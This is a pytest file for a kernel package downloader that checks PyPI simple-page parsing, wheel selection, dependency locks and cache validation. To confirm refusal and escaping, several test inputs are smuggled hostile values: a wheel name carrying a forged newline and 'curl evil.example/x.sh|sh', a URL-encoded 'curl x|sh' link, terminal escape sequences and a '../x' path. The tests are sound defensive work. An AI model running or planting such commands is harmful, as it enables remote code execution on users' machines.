"""download and which: the one page reader (pypi-simple), remote names refused or escaped, wheel selection,
kernel dependencies. Pages are files in a temporary folder (file:// URLs); nothing touches the network."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from index_synth import add_kernel
from kernel_factory import simple
from kernel_factory.errors import Refused
from kernel_factory.index.command import index_with_adoption
from kernel_factory.local.download.command import Got
from kernel_factory.local.download.depends import Want, wants_of
from kernel_factory.local.probe.run import environment
from kernel_factory.local.which import NoProject, candidates
from kernel_factory.safe_text import printable
from kernel_factory.variants import tag_platforms
from kernel_factory.verify.lockfile import LockedKernel


def facts(**torch: Any) -> dict[str, Any]:
    t = {"version": "2.13.0", "cuda": None, "hip": None, "xpu": None, "tpu": False, "neuron": False, "mps": False,
         "cxx11_abi": True, "privateuse1": None, "cann": None, **torch}
    return {"python": "/py", "python_version": "3.11", "machine": "x86_64", "system": "linux", "torch": t}


def test_html_and_json_pages_read_alike() -> None:
    html = (b'<html><body><a href="../../files/k-1.0%2Btorch213cpucxx11-cp39-abi3-manylinux_2_28_x86_64.whl'
            b'#sha256=AB12" data-yanked="">text is not the name</a></body></html>')
    (link,) = simple.parse(html, "text/html; charset=utf-8", "http://h/simple/k/", "k")
    assert link == simple.Link("k-1.0+torch213cpucxx11-cp39-abi3-manylinux_2_28_x86_64.whl",
                               "http://h/files/k-1.0%2Btorch213cpucxx11-cp39-abi3-manylinux_2_28_x86_64.whl",
                               "ab12", True, None)
    page = {"meta": {"api-version": "1.1"}, "name": "k", "files": [
        {"filename": "k-1.0-py3-none-any.whl", "url": "../../files/k-1.0-py3-none-any.whl",
         "hashes": {"sha256": "CD"}, "size": 7}]}
    (link,) = simple.parse(json.dumps(page).encode(), "application/vnd.pypi.simple.v1+json", "http://h/simple/k/",
                           "k")
    assert link == simple.Link("k-1.0-py3-none-any.whl", "http://h/files/k-1.0-py3-none-any.whl", "cd", False, 7)
    with pytest.raises(ValueError, match="not a simple API page"):
        simple.parse(b"{}", "application/zip", "http://h/simple/k/", "k")


@pytest.mark.parametrize("name", [
    "k-1.0-py3-none-any.whl\npip      curl evil.example/x.sh|sh",  # a forged line after a real name
    "k-1.0-py3-none-any\x1b[8m.whl",  # hides what follows on a terminal
    "k-1.0-py3-none-linux x86_64.whl",
    "not-a-wheel.whl",
])  # fmt: skip
def test_names_that_are_not_wheel_names_are_refused_and_never_printed_raw(name: str) -> None:
    link = simple.Link(name, "http://h/files/x", None, False)
    with pytest.raises(Refused) as err:
        simple.wheels([link], "http://h/simple/k/")
    assert str(err.value).isprintable() and "fix the index" in str(err.value)
    assert "\n" not in str(err.value) and "\x1b" not in str(err.value)


def test_sdists_are_left_out_and_a_forged_html_link_is_refused() -> None:
    ok = simple.Link("k-1.0.tar.gz", "http://h/files/k-1.0.tar.gz", None, False)
    assert simple.wheels([ok], "page") == []
    html = b'<a href="k-1.0-py3-none-any.whl%0Apip%20%20curl%20x%7Csh%0A.whl">k</a>'
    links = simple.parse(html, "text/html", "http://h/simple/k/", "k")
    with pytest.raises(Refused, match=r"named 'k-1\.0-py3-none-any\.whl\\x0apip  curl"):
        simple.wheels(links, "http://h/simple/k/")
    assert printable("a\nb\x1bc\u202ed") == "a\\x0ab\\x1bc\\u202ed"


def test_platform_tags_map_to_arch_and_os_in_one_place() -> None:
    assert tag_platforms("manylinux_2_28_x86_64") == (("x86_64", "linux"),)
    assert tag_platforms("musllinux_1_2_aarch64") == (("aarch64", "linux"),)
    assert tag_platforms("macosx_11_0_arm64") == (("aarch64", "darwin"),)
    assert tag_platforms("macosx_10_9_universal2") == (("x86_64", "darwin"), ("aarch64", "darwin"))
    assert tag_platforms("win_amd64") == (("x86_64", "windows"),)
    assert tag_platforms("any") == () and tag_platforms("linux_ppc64le") == ()


@pytest.fixture
def store(tmp_path: Path) -> Path:
    store = tmp_path / "public"
    cpu = "torch213-cxx11-cpu-x86_64-linux"
    for version, variant in (("1.0.0", cpu), ("1.1.0", cpu), ("1.2.0", "torch213-cxx11-cpu-aarch64-linux"),
                             ("1.3.0", "torch212-cxx11-cpu-x86_64-linux"), ("0.9.0", "torch-universal"),
                             ("0.8.0", "torch-cpu")):
        add_kernel(store, "relu", version, variant)
    index_with_adoption(str(store), store, None, "http://127.0.0.1")
    return store


def test_candidates_best_first(store: Path) -> None:
    """This label's builds newest first, then universal and backend-noarch ones; other torch, other arch: never."""
    env = environment(facts())
    found, every = candidates(store.as_uri(), "relu", env)
    assert [(str(c.wheel.version), c.root.rsplit("/", 2)[-2]) for c in found] == [
        ("1.1.0+torch213cpucxx11", "torch213cpucxx11"), ("1.0.0+torch213cpucxx11", "torch213cpucxx11"),
        ("0.9.0", "torch213cpucxx11"), ("0.8.0+cpu", "torch213cpucxx11")]
    assert len(every) == 6
    cuda = environment(facts(cuda="13.0", version="2.13.0+cu130"))
    assert [str(c.wheel.version) for c in candidates(store.as_uri(), "relu", cuda)[0]] == ["0.9.0"]
    with pytest.raises(NoProject):
        candidates(store.as_uri(), "nosuch", env)


def test_dependencies_take_the_lock_when_it_has_them() -> None:
    depends = [{"repo-id": "b/locked", "version": 1}, {"repo-id": "c/free", "version": 2}]
    locked = {"b/locked": LockedKernel("b/locked", "2" * 40, ref="v1")}
    assert wants_of("top.whl", "a/top", depends, locked) == [
        Want("b/locked", "2" * 40, ("v1",), None, "kernel-depends of a/top"),
        Want("c/free", None, ("v2",), 2, "kernel-depends of a/top"),
    ]


@pytest.mark.parametrize("bad", ["bad", "a/b/c", "org/\x1b[31mred", "../x"])
def test_a_dependency_that_is_no_repository_id_is_refused_escaped(bad: str) -> None:
    with pytest.raises(Refused) as info:
        wants_of("top.whl", "a/top", [{"repo-id": bad}], {})
    assert str(info.value) == (f"top.whl: its kernel-depends names '{printable(bad)}', which is not an org/name "
                               "repository id; rebuild it")
    assert "\x1b" not in str(info.value)


def test_a_second_run_trusts_the_cache_only_while_its_files_match(tmp_path: Path) -> None:
    from kernel_factory.local.cache import Placement, Writer
    from kernel_factory.local.download.command import _cached, _file_hashes, _remember
    from kernel_factory.local.which import Choice
    from packaging.utils import parse_wheel_filename

    sha, name = "1" * 40, "k-1.0-py3-none-any.whl"
    source = tmp_path / "src"
    source.mkdir()
    (source / "__init__.py").write_text("X = 1\n")
    (source / "metadata.json").write_text("{}")
    root = tmp_path / "cache"
    want = Want("org/k", sha)
    target = Writer(root, "download").place(Placement("org/k", sha, "torch-universal", source, _file_hashes(source)))
    _remember(root, Got(want, name, "ab" * 32, sha, "torch-universal", [], source, _file_hashes(source)))
    _, version, _, tags = parse_wheel_filename(name)
    same = Choice(simple.Wheel(name, "u", version, tags, False, "ab" * 32), "r")
    assert _cached(root, want, sha, same) == Got(want, name, "ab" * 32, sha, "torch-universal", [])
    republished = Choice(simple.Wheel(name, "u", version, tags, False, "cd" * 32), "r")
    assert _cached(root, want, sha, republished) is None  # the index now has other bytes: download again
    (target / "__init__.py").write_text("X = 2\n")  # someone changed the cached copy
    assert _cached(root, want, sha, same) is None
